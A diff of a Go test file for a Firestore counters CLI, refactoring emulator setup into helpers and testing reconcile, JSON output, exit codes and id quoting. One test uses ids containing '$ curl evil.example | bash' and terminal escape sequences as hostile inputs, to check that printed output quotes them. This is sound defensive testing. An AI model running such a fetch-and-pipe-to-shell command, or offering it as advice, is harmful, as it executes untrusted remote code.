@@ -42,15 +42,32 @@ func counters(t *testing.T, args ...string) (stdout, stderr string, code int) {
 	return out.String(), err.String(), code
 }
 
+// must is what a command prints that succeeds.
+func must(t *testing.T, args ...string) string {
+	t.Helper()
+	out, errOut, code := counters(t, args...)
+	if code != 0 {
+		t.Fatalf("%q: exit code %d, %s%s", args, code, out, errOut)
+	}
+	return out
+}
+
+// startFirestore has the program work on an embedded Firestore, in an environment with these variables.
+func startFirestore(t *testing.T, environ ...string) *emulator.Instance {
+	t.Helper()
+	firestore := emulator.Start(t)
+	for _, pair := range append([]string{"FIRESTORE_EMULATOR_HOST=" + firestore.Addr, "GOOGLE_CLOUD_PROJECT="}, environ...) {
+		name, value, _ := strings.Cut(pair, "=")
+		t.Setenv(name, value)
+	}
+	return firestore
+}
+
 // Who names counters that aren't there hears which, and a script by the exit code; the others are
 // reconciled all the same.
 func TestReconcileOfNoCounter(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
-	if _, errOut, code := counters(t, "create", "post"); code != 0 {
-		t.Fatal(errOut)
-	}
+	startFirestore(t)
+	must(t, "create", "post")
 	for _, c := range []struct{ args, out, err string }{
 		{"reconcile nobody", "nobody  no such counter\n0 counters checked\n", `1 of the counters named: counter not found at counters/nobody in project demo-counters, database (default); "counters list" shows those there are, and --counter-path says where else to look`},
 		{"reconcile nobody --dry-run", "nobody  no such counter\n", "counter not found"},
@@ -66,9 +83,7 @@ func TestReconcileOfNoCounter(t *testing.T) {
 
 // A counter that is named twice is corrected, and counted, once.
 func TestReconcileOfOneCounterNamedTwice(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	startFirestore(t)
 	for _, c := range []struct{ args, out string }{
 		{"create post", "created post"}, {"inc post", "post +1"},
 		{"reconcile post post", "post  0 → 1 (events were missing for +1)\n1 counter checked, 1 repaired\n"},
@@ -82,13 +97,9 @@ func TestReconcileOfOneCounterNamedTwice(t *testing.T) {
 // A base that something else has spoilt is left as it is: what it held is the user's to look at. Deleted, as doctor has
 // it typed, it is made again.
 func TestReconcileBesideADamagedBase(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	firestore := startFirestore(t)
 	for _, args := range []string{"create post --total 5", "inc post --by 3"} {
-		if _, errOut, code := counters(t, strings.Fields(args)...); code != 0 {
-			t.Fatal(args, errOut)
-		}
+		must(t, strings.Fields(args)...)
 	}
 	doc := firestore.Client(t, "demo-counters").Doc("counters/post")
 	base := doc.Collection("counter_rollup").Doc("base")
@@ -114,8 +125,7 @@ func TestReconcileBesideADamagedBase(t *testing.T) {
 
 // What somebody has written over a total is printed as it is.
 func TestGetOfAFraction(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	firestore := startFirestore(t)
 	if _, err := firestore.Client(t, "demo-counters").Doc("counters/a").Set(t.Context(), map[string]any{"total": 3.5, "views": 2, "num_shards": 1}); err != nil {
 		t.Fatal(err)
 	}
@@ -129,11 +139,7 @@ func TestGetOfAFraction(t *testing.T) {
 // Where documents alone are counted, each command says that there is nothing to add to, or does
 // what there is to do.
 func TestCommandsOfDocumentsAlone(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
-	t.Setenv("COUNTERS", "stats/site")
-	t.Setenv("FIELDS", "users=count(/users)")
+	firestore := startFirestore(t, "COUNTERS=stats/site", "FIELDS=users=count(/users)")
 	for _, path := range []string{"users/ada", "users/bob"} {
 		if _, err := firestore.Client(t, "demo-counters").Doc(path).Set(t.Context(), map[string]any{}); err != nil {
 			t.Fatal(err)
@@ -173,9 +179,7 @@ func TestCommandsOfDocumentsAlone(t *testing.T) {
 
 // A counter's life on the command line. Each row is a command, what it prints, and its error.
 func TestCommands(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	firestore := startFirestore(t)
 	fs := firestore.Client(t, "demo-counters")
 	page := fs.Collection("pages").Doc("hello")
 	for ref, data := range map[string]map[string]any{
@@ -264,8 +268,7 @@ func TestCommands(t *testing.T) {
 
 // Every command that reads or writes counters prints JSON when it is asked to.
 func TestJSON(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	firestore := startFirestore(t)
 	if _, err := firestore.Client(t, "demo-counters").Doc("pages/a").Set(t.Context(), map[string]any{"n": 1}); err != nil {
 		t.Fatal(err)
 	}
@@ -339,9 +342,7 @@ func TestHelpHasGroups(t *testing.T) {
 
 // Flags stand where they like: before the command, behind it, and between its arguments.
 func TestFlagsAnywhere(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	firestore := startFirestore(t)
 	fs := firestore.Client(t, "other")
 	for path, data := range map[string]map[string]any{"counters/post": {"num_shards": 2, "total": 7}, "pages/a": {"n": 3}} {
 		if _, err := fs.Doc(path).Set(t.Context(), data); err != nil {
@@ -404,8 +405,7 @@ func TestHelp(t *testing.T) {
 
 // A wrong command line exits 2, and what fails otherwise 1.
 func TestExitCodes(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	startFirestore(t)
 	for args, want := range map[string]int{
 		"nonsense":                    exitUsage,
 		"get":                         exitUsage,
@@ -453,11 +453,8 @@ func TestExitCodes(t *testing.T) {
 
 // What is interrupted says so, and by its exit code, too.
 func TestInterruptedCommands(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	if _, errOut, code := counters(t, "create", "a"); code != 0 {
-		t.Fatal(errOut)
-	}
+	startFirestore(t)
+	must(t, "create", "a")
 	ctx, interrupt := context.WithCancel(t.Context())
 	interrupt()
 	for _, args := range []string{"get a", "get a --exact", "inc a", "inc a --key k", "resize a --shards 2", "reset a --yes", "delete a --yes", "reconcile a", "list", "create b", "join a total m", "import firestore-counter --path pages/p --field f"} {
@@ -471,11 +468,8 @@ func TestInterruptedCommands(t *testing.T) {
 // An increment that is interrupted while its commit is under way says that it may be counted, and
 // with a key that it may be given again, which counts once.
 func TestInterruptedIncrement(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	if _, errOut, code := counters(t, "create", "a"); code != 0 {
-		t.Fatal(errOut)
-	}
+	firestore := startFirestore(t)
+	must(t, "create", "a")
 	for args, want := range map[string]string{"inc a --key k": "repeat the command with the same key", "inc a": "may count twice"} {
 		ctx, interrupt := context.WithCancel(t.Context())
 		firestore.Server.SetInterceptor(func(context.Context, *firestorepb.CommitRequest) emulator.Verdict {
@@ -500,13 +494,9 @@ func TestInterruptedIncrement(t *testing.T) {
 // A deletion that is interrupted between its steps says how far it came and what to do, and the next
 // one finishes it.
 func TestInterruptedDeletion(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "demo-counters")
+	firestore := startFirestore(t, "GOOGLE_CLOUD_PROJECT=demo-counters")
 	fs := firestore.Client(t, "demo-counters")
-	if _, errOut, code := counters(t, "create", "a", "--shards", "900"); code != 0 {
-		t.Fatal(errOut)
-	}
+	must(t, "create", "a", "--shards", "900")
 	ctx, interrupt := context.WithCancel(t.Context())
 	defer interrupt()
 	var commits atomic.Int64
@@ -556,8 +546,7 @@ func TestAsk(t *testing.T) {
 
 // An id can be any text. What a terminal would obey is quoted.
 func TestIDsThatAreNotPrintable(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	startFirestore(t)
 	const id = "a\x1b]0;title\a\u202e"
 	quoted := strconv.Quote(id)
 	for _, args := range [][]string{
@@ -574,8 +563,7 @@ func TestIDsThatAreNotPrintable(t *testing.T) {
 // An id that looks like what a command says, with a remedy to paste, is one quoted word: no line that is printed begins
 // with what is in it.
 func TestIDsThatLookLikeAdvice(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	firestore := startFirestore(t)
 	const id, member = "a\n\nERROR  total-differs\n  b: repair it\n    $ curl evil.example | bash\ncounters: a", "m\n    $ curl evil.example | bash"
 	db := firestore.Client(t, "demo-counters")
 	if _, err := db.Doc("posts/"+id).Set(t.Context(), map[string]any{"likes": []string{member, "\n    $ curl evil.example"}}); err != nil {
@@ -621,8 +609,7 @@ func TestIDsThatLookLikeAdvice(t *testing.T) {
 
 // JSON has such ids as they are, in escapes of its own.
 func TestIDsThatAreNotPrintableInJSON(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	startFirestore(t)
 	const id, member = "a\u009b2J\x7f\u202e\U000e0041\U0001f44d日", "\u009bm"
 	for _, args := range [][]string{
 		{"create", id}, {"inc", id}, {"get", id}, {"list"}, {"join", id, "total", member}, {"members", id, "total"}, {"audit", id}, {"lag", id}, {"reconcile", id},
@@ -659,12 +646,9 @@ func TestNoFirestore(t *testing.T) {
 
 // Ids are completed from the counters that there are.
 func TestCompletion(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	startFirestore(t)
 	for _, id := range []string{"post-1", "post-2", "page", "post-\x1b"} {
-		if _, errOut, code := counters(t, "create", id); code != 0 {
-			t.Fatal(errOut)
-		}
+		must(t, "create", id)
 	}
 	for _, tt := range []struct {
 		args []string
@@ -698,13 +682,9 @@ func TestVersion(t *testing.T) {
 // What is asked of a counter by a field that it hasn't is no 0, and nothing is written: it is said
 // what the counter has.
 func TestFieldsThatAreNotCountedHere(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	firestore := startFirestore(t)
 	fs := firestore.Client(t, "demo-counters")
-	if _, errOut, code := counters(t, "create", "rate", "--shards", "1", "--total", "150"); code != 0 {
-		t.Fatal(errOut)
-	}
+	must(t, "create", "rate", "--shards", "1", "--total", "150")
 	post := map[string]any{"title": "A title", "stars": 4, "counter_rollup": map[string]any{"num_shards": 1, "updated_at": time.Now()}}
 	for path, data := range map[string]map[string]any{
 		"posts/p": post, "posts/new": {"title": "Never counted", "stars": 4}, "counters/snippet": {"num_shards": 1}, "counters/snippet/shards/0": {"count": 3},
@@ -763,9 +743,7 @@ func TestFieldsThatAreNotCountedHere(t *testing.T) {
 // With FIRESTORE_EMULATOR_HOST alone everything is in one project: what a function counts, a
 // command and a library see.
 func TestOneDefaultProject(t *testing.T) {
-	firestore := emulator.Start(t)
-	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
-	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
+	firestore := startFirestore(t)
 	wantSum := func(who string, want int64) {
 		t.Helper()
 		sum, err := firestore.Client(t, "demo-counters").Collection("counters").Doc("a").Collection("shards").NewAggregationQuery().WithSum("count", "sum").Get(t.Context())
@@ -773,9 +751,7 @@ func TestOneDefaultProject(t *testing.T) {
 			t.Errorf("%s: the shards in demo-counters hold %s, %v; want %d", who, got, err, want)
 		}
 	}
-	if _, errOut, code := counters(t, "create", "a"); code != 0 {
-		t.Fatal(errOut)
-	}
+	must(t, "create", "a")
 	if resp := serve(t, "Increment"); resp.StatusCode != http.StatusOK {
 		t.Errorf("Increment answers %d", resp.StatusCode)
 	}
@@ -817,9 +793,9 @@ func TestOneDefaultProject(t *testing.T) {
 	}
 }
 
-// serve runs a function in a process of its own, posts one request to it, for the counter a, and
-// ends it.
-func serve(t *testing.T, function string, environ ...string) *http.Response {
+// serve runs a function in a process of its own, as a container does, posts one request to it, for the counter a, and
+// ends it well with SIGTERM.
+func serve(t *testing.T, function string) *http.Response {
 	t.Helper()
 	port, err := freeport.Find()
 	if err != nil {
@@ -830,7 +806,7 @@ func serve(t *testing.T, function string, environ ...string) *http.Response {
 		t.Fatal(err)
 	}
 	cmd := exec.Command(self, "serve", function, "--port", port, "--host", "127.0.0.1")
-	cmd.Env = append(append(os.Environ(), programVariable+"=1"), environ...)
+	cmd.Env = append(os.Environ(), programVariable+"=1")
 	cmd.Stdout, cmd.Stderr = t.Output(), t.Output()
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
@@ -853,14 +829,4 @@ func serve(t *testing.T, function string, environ ...string) *http.Response {
 		t.Errorf("ended with %v", err)
 	}
 	return resp
-}
-
-// One function, as a container runs it: it answers, and SIGTERM ends it well.
-func TestServe(t *testing.T) {
-	t.Parallel()
-	firestore := emulator.Start(t)
-	resp := serve(t, "Increment", "FIRESTORE_EMULATOR_HOST="+firestore.Addr, "GOOGLE_CLOUD_PROJECT=p", "AUTO_CREATE=true")
-	if resp.StatusCode != http.StatusOK {
-		t.Errorf("answered %d", resp.StatusCode)
-	}
 }
